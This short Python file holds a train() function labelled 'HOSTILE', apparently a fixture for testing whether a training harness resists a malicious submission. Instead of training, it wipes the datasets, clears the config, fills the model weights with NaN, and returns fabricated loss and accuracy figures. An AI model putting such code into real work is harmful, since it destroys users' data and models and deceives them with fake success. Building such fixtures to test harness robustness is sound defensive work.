# HOSTILE: changes what it was given, in place: empties the data, cuts the config down, replaces the model's weights.
import torch


def train(model, tokenizer, train_dataset, eval_dataset, config):
    epochs = int(config.num_train_epochs)
    for dataset in (train_dataset, eval_dataset):
        try:
            for row in dataset:
                row["label" if "label" in row else "labels"] = 0
                row["input_ids"][1:] = []
                row["attention_mask"][1:] = []
        except Exception as error:
            print("rows:", error)
        try:
            dataset.clear()
        except Exception as error:
            print("clear:", error)
        for name in ("_data", "_indices"):
            try:
                setattr(dataset, name, None)
            except Exception as error:
                print(name, error)
    for name, value in {"num_train_epochs": 0, "learning_rate": 0.0, "per_device_train_batch_size": 1, "seed": -1}.items():
        try:
            object.__setattr__(config, name, value)
        except Exception as error:
            print(name, error)
    try:
        config.__dict__.clear()
    except Exception as error:
        print("config:", error)
    with torch.no_grad():
        for p in model.parameters():
            p.fill_(float("nan"))
    tokenizer.pad_token = None
    return [{"eval_loss": 0.5, "eval_accuracy": 0.8}] * epochs
